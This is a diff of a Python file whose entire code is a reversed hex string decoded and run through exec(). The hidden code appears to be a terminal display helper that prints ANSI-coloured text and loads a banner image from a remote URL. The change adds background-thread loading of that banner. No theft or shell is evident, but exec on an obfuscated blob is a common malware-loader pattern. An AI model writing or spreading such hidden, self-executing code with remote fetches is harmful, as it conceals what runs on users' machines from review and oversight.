@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09256e696c68247e696270702020202a022d74554355425e256c6974735b719592ed727f6c6f636f527564627f626b7d776e6964646160702a202720272b7d747875647b70219592ed727f6c6f636f527564627f626b7226602d30256e696c602020202a056e696c60256864702473657274737e6f634023202020202a002020202a0e656c6f556c6269637966702d2022302d202864746967702d30276e6964646160702020202a076e696464616070246562796571756270256864702564716c65736c61634023202020202a002020202a0929247875647829637e616f5079627473782e656c602d302e656c6f556c6269637966702020202a0375646f636029435e414024757f68647967702c247875647025686470266f602864776e656c60256c6269637966702568645023202020202a0222222e2375646f6360227f6c6f636029435e4140276e696c646e6168602c287f62602465627564627f626021602e6968647967702478756470266f60256e696c60216023747e696270522222202020202a0a3921445e4547414d4e256c6974735d327f6c6f636f527564627f62602c2864746967702c2478756478256e696c6f5465627564627f626f547e696270702665646a0a0924787564702c2727282265737e2560716363756f59637e61602e6275747562702020202a09272d5e7d204b5a2d5f2d202b5a2d5f3d203b5b5c5261387c572278256c69607d6f636e2562702d302560716363756f59637e61602020202a0222222e276e696274737021602d6f6276602375646f63602560716363756029435e41402375667f6d6562522222202020202a0a39247875647829637e616f5079627473702665646a0a0928247875647f5475676e227563727160702e6275747562702020202a09247875647f5c6d647868246565666e227563727160702020202a0928647469677d386474696778247875645f645c4d4458402d30227563727160702020202a0a3920383d3864746967702c247875647f5c6d6478682c6d64786f59716c60737964602665646a0a092925637c61664d356361607375647968677f5563616c607562702c28647469677e266c65637d3864746967702c2478756478207162777e2071627774787564782e696f6a6e222e6c52202e627574756270202020202020202a097c6563696e6023756e696c6020716277502320202020202020202a0924787564702c222e6c5e6c52202c222b2e6c5a237c5e6c5a237c5e6c5222782265737e2562702d302478756470202020202020202a09247c657375627e266c6563782e696f6a6e2222202d302478756470202020202020202a03756e696c67756e60256c6079647c657d602e61656c6360246e61602e696f6a402320202020202020202a0a39266c656378247875647f54756760266564602020202a0a092478756478246e656070716e247c657375627e266c6563702020202020202020202020202020202a0a35637c656020202020202020202020202a09222d747875647b702d222668246e656070716e247c657375627e266c6563702020202020202020202020202020202a0a396c6f5e696e266c65637026696020202020202020202020202a0a3478756470266960202020202020202a092820796274737e21647164602d302478756470202020202020202a0a3921647164602c266c656378216471646f556c646e616860266564602020202a0a09222e6c5228246e656070716e247c657375627e266c65637020202020202020202020202a05637c6166402d30296c6f5e696e266c65637020202020202020202020202a0a32296c62202d3d3027616470266960202020202020202a0a39276164702c266c656378276164746e656f556c646e616860266564602020202a0a09222e6c5228246e656070716e247c657375627e266c65637020202020202020202020202a0a32227262202d3d302761647026696c6560202020202020202a05657274502d30296c6f5e696e266c65637020202020202020202020202a0a32296c62202d3d3027616470266960202020202020202a0a392372747471602c276164702c266c65637827616474727164737f556c646e616860266564602020202a0a05637c6166402d30296c6f5e696e266c656370202020202020202a0d5b502d30247c657375627e266c656370202020202020202a0864746967702d3028647469677e266c656370202020202020202a09282f5f54796e696f5f5e2928227560757370202020202020202a0a3920383d3864746967702c266c6563782f5f54796e696f5f50266564602020202a0a392275637271605c4d445848247875645f645c4d4458402373716c636a0a09222e2e2e25657e69647e6f63602f64702275647e656023737562705e6c52282475707e69602020202a0a39282563757160702665646a0a0a092d6f64747f626f527564627f6268247e696270702020202a09222d74554355425e256c6974735b719592ed74786769627f576e6964646160702a202720272b7d74554355425e256c6974735b7d756c6479647b7d7e4149534e256c6974735b7d744c4f424e256c6974735b7d7476656c6f576e6964646160702a202720272b719592ed71445e4547414d4e256c6974735b722668247e696270702020202a09207f647f527564627f6268247e696270702020202a0a0476656c6f576e6964646160702d202c61647f647f576e6964646160702d3024786769627f576e6964646160702020202a02302f2f202c61647f647f576e6964646160702d302476656c6f576e6964646160702020202a09256c6479647f5e61656c63682e656c602d202922302d20286474696778202d302c61647f647f576e6964646160702020202a076e696275647e656360227f6660276e6964646160702564716c65736c61634023202020202a002020202a09256c6479647829637e616f5079627473702d30256c6479647f5e61656c63602020202a076e696275647e656360227f66602e6f6964716c65736c6163602864776e656c60256471627573636160227f66602375646f636029435e414020796274735023202020202a002020202a022d74554355425e256c6974735b7d9592ed7922302d20286474696778202a2027209592e72b7a9592ed71445e4547414d4e256c6974735b7226602d302d6f64747f626f527564627f62602020202a022d74554355425e256c6974735b779592ed7922302d20286474696778202a2027209592e72b749592ed71445e4547414d4e256c6974735b7226602d30207f647f527564627f62602020202a0535302d302864746967702020202a0222222e23727564627f626028647967702275646165686024656a796c69747370216023747e696270522222202020202a0a39227473702a356c647964782275646165686f547e696270702665646a0a0925353d337e6d657c6f63682c616e696d6275647f5f647e2472716f596963637160202020202020202a0a3472716f5969636371602669602020202a09272271656c63672025637c656027247e67202d3d30256d616e6e237f6026696027237c6367282d65647379737e237f602020202a0a39282e65656273637f5271656c63602665646a0a0a022d61393b5333303c52202d30244542502020202a022d64393b5333303c52202d3025455c42402020202a022d62393b5333303c52202d302e45454257402020202a022d63393b5333303c52202d30275f4c4c4549502020202a022d65393b5333303c52202d3021445e4547414d402020202a022d66393b5333303c52202d302e414953402020202a022d613b5333303c52202d30244c4f42402020202a022d603b5333303c52202d302455435542502020202a0a356c697473502373716c636a03756c69747370246e616023727f6c6f6360227f66602375646f63602560716363756029435e4140232a0a092928237c61626f6c67602c22276e607e20373832756e6e6162656d6f2c6f6c6e257863716d6e256d6f2f2a3370747478622824616f6c6e22756e6e6162602d302472716f59696363716a0a00716277747875647024727f607d696a05627024727f607d696a037f6024727f607d696a0275637271605c4d44584024727f607d69602275637271607e2c6d6478602d6f62766a02756e6e61626023716022756e6e61626e23757e656d6e2070716024727f607d696" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09256e696c68247e696270702020202a022d74554355425e256c6974735b719592ed727f6c6f636f527564627f626b7d776e6964646160702a202720272b7d747875647b70219592ed727f6c6f636f527564627f626b7226602d30256e696c602020202a056e696c60256864702473657274737e6f634023202020202a002020202a0e656c6f556c6269637966702d2022302d202864746967702d30276e6964646160702020202a076e696464616070246562796571756270256864702564716c65736c61634023202020202a002020202a0929247875647829637e616f5079627473782e656c602d302e656c6f556c6269637966702020202a0375646f636029435e414024757f68647967702c247875647025686470266f602864776e656c60256c6269637966702568645023202020202a0222222e2375646f6360227f6c6f636029435e4140276e696c646e6168602c287f62602465627564627f626021602e6968647967702478756470266f60256e696c60216023747e696270522222202020202a0a3921445e4547414d4e256c6974735d327f6c6f636f527564627f62602c2864746967702c2478756478256e696c6f5465627564627f626f547e696270702665646a0a0924787564702c2727282265737e2560716363756f59637e61602e6275747562702020202a09272d5e7d204b5a2d5f2d202b5a2d5f3d203b5b5c5261387c572278256c69607d6f636e2562702d302560716363756f59637e61602020202a0222222e276e696274737021602d6f6276602375646f63602560716363756029435e41402375667f6d6562522222202020202a0a39247875647829637e616f5079627473702665646a0a0928247875647f5475676e227563727160702e6275747562702020202a09247875647f5c6d647868246565666e227563727160702020202a0928647469677d386474696778247875645f645c4d4458402d30227563727160702020202a0a3920383d3864746967702c247875647f5c6d6478682c6d64786f59716c60737964602665646a0a092925637c61664d356361607375647968677f5563616c607562702c28647469677e266c65637d3864746967702c2478756478207162777e2071627774787564782e696f6a6e222e6c52202e627574756270202020202020202a097c6563696e6023756e696c6020716277502320202020202020202a0924787564702c222e6c5e6c52202c222b2e6c5a237c5e6c5a237c5e6c5222782265737e2562702d302478756470202020202020202a09247c657375627e266c6563782e696f6a6e2222202d302478756470202020202020202a03756e696c67756e60256c6079647c657d602e61656c6360246e61602e696f6a402320202020202020202a0a39266c656378247875647f54756760266564602020202a0a092478756478246e656070716e247c657375627e266c6563702020202020202020202020202020202a0a35637c656020202020202020202020202a09222d747875647b702d222668246e656070716e247c657375627e266c6563702020202020202020202020202020202a0a396c6f5e696e266c65637026696020202020202020202020202a0a3478756470266960202020202020202a092820796274737e21647164602d302478756470202020202020202a0a3921647164602c266c656378216471646f556c646e616860266564602020202a0a09222e6c5228246e656070716e247c657375627e266c65637020202020202020202020202a05637c6166402d30296c6f5e696e266c65637020202020202020202020202a0a32296c62202d3d3027616470266960202020202020202a0a39276164702c266c656378276164746e656f556c646e616860266564602020202a0a09222e6c5228246e656070716e247c657375627e266c65637020202020202020202020202a0a32227262202d3d302761647026696c6560202020202020202a05657274502d30296c6f5e696e266c65637020202020202020202020202a0a32296c62202d3d3027616470266960202020202020202a0a392372747471602c276164702c266c65637827616474727164737f556c646e616860266564602020202a0a05637c6166402d30296c6f5e696e266c656370202020202020202a0d5b502d30247c657375627e266c656370202020202020202a0864746967702d3028647469677e266c656370202020202020202a09282f5f54796e696f5f5e2928227560757370202020202020202a0a3920383d3864746967702c266c6563782f5f54796e696f5f50266564602020202a0a392275637271605c4d445848247875645f645c4d4458402373716c636a0a09222e2e2e25657e69647e6f63602f64702275647e656023737562705e6c52282475707e69602020202a0a39282563757160702665646a0a0a092d6f64747f626f527564627f6268247e696270702020202a09222d74554355425e256c6974735b719592ed74786769627f576e6964646160702a202720272b7d74554355425e256c6974735b7d756c6479647b7d7e4149534e256c6974735b7d744c4f424e256c6974735b7d7476656c6f576e6964646160702a202720272b719592ed71445e4547414d4e256c6974735b722668247e696270702020202a09207f647f527564627f6268247e696270702020202a0a0476656c6f576e6964646160702d202c61647f647f576e6964646160702d3024786769627f576e6964646160702020202a02302f2f202c61647f647f576e6964646160702d302476656c6f576e6964646160702020202a09256c6479647f5e61656c63682e656c602d202922302d20286474696778202d302c61647f647f576e6964646160702020202a076e696275647e656360227f6660276e6964646160702564716c65736c61634023202020202a002020202a09256c6479647829637e616f5079627473702d30256c6479647f5e61656c63602020202a076e696275647e656360227f66602e6f6964716c65736c6163602864776e656c60256471627573636160227f66602375646f636029435e414020796274735023202020202a002020202a022d74554355425e256c6974735b7d9592ed7922302d20286474696778202a2027209592e72b7a9592ed71445e4547414d4e256c6974735b7226602d302d6f64747f626f527564627f62602020202a022d74554355425e256c6974735b779592ed7922302d20286474696778202a2027209592e72b749592ed71445e4547414d4e256c6974735b7226602d30207f647f527564627f62602020202a0535302d302864746967702020202a0222222e23727564627f626028647967702275646165686024656a796c69747370216023747e696270522222202020202a0a39227473702a356c647964782275646165686f547e696270702665646a0a0925353d337e6d657c6f63682c616e696d6275647f5f647e2472716f596963637160202020202020202a0a3472716f5969636371602669602020202a092822756e6e61626f547567602d302472716f5969636371602020202a09272271656c63672025637c656027247e67202d3d30256d616e6e237f6026696027237c6367282d65647379737e237f602020202a0a39282e65656273637f5271656c63602665646a0a0a022d61393b5333303c52202d30244542502020202a022d64393b5333303c52202d3025455c42402020202a022d62393b5333303c52202d302e45454257402020202a022d63393b5333303c52202d30275f4c4c4549502020202a022d65393b5333303c52202d3021445e4547414d402020202a022d66393b5333303c52202d302e414953402020202a022d613b5333303c52202d30244c4f42402020202a022d603b5333303c52202d302455435542502020202a0a356c697473502373716c636a03756c69747370246e616023727f6c6f6360227f66602375646f63602560716363756029435e4140232a0a02756e6e61626f502e6275747562702020202a056e6f6e402e627574756270202020202020202a0a3924757f656d696478247961677e29746165627f52756e6e61626f50247f6e602669602020202a092824616f6c6f52756e6e61626f5472716473702020202a0222222e256e6f6e4025637967727568647f602c23746e6f6365637024757f656d6964702e696864796770246564616f6c6023796024796026696022756e6e61626025686470237e6275747562522222202020202a0a39245941475f52554e4e4142402d3024716f6c66602a34757f656d69647822756e6e61626f547567602665646a0a092824727164737e2461656278647f52756e6e61626f5020202020202020202020202a09256572745d3e6f6d656164602c22227564616f6c6d22756e6e6162622d356d616e602c22756e6e61626f54616f6c6f5d347567627164782461656278645e276e69646165627864702d302461656278647f52756e6e61626f5020202020202020202020202a0a356e6f6e402379602461656278647f52756e6e61626f50266960202020202020202a0a3b636f6c6f52756e6e61626f5028647967702020202a0461656278647f52756e6e61626f502c61626f6c67602020202a0a392824616f6c6f52756e6e61626f5472716473702665646a0a09282475637e29746165627f52756e6e61626f50202020202020202a0a397c6c616e6966602020202a092c42555f52554e4e41424824616f6c6e22756e6e6162602d3022756e6e61626f50202020202020202a0a397274702020202a02756e6e61626f502c61626f6c67602020202a0a392822756e6e61626f54616f6c6f502665646a0a056e6f6e402d302461656278647f52756e6e61626f5a09282b636f6c4e276e69646165627864702d302b636f6c6f52756e6e61626f5a0928247e6566754e276e69646165627864702d3029746165627f52756e6e61626f5a056e6f6e402d3022756e6e61626f5a0e25657c61667024656a796c616964796e696d266c616860216025656370227566756e6023727564616562702b39746165627f52756e6e61626f50232a0867657f627864702275667f60247c65737562702374796023746e616860297c6e6f6024616562786470256864502e2b627f6774756e6025686470227f6660237479616770227566756e60232a056c65746f6d602379686470276e6964727f607d69602f637024616562786470246e657f62776b6361626021602e6f60246564616f6c6e677f646023796022756e6e61626025686450232a0a045941475f52554e4e4142402c2c42555f52554e4e41424024727f607d69602769666e6f636e207071602d6f62766a0a076e696461656278647024727f607d696a00716277747875647024727f607d696a05627024727f607d696a037f6024727f607d696a0275637271605c4d44584024727f607d69602275637271607e2c6d6478602d6f62766a02756e6e61626023716022756e6e61626e23757e656d6e2070716024727f607d696" ));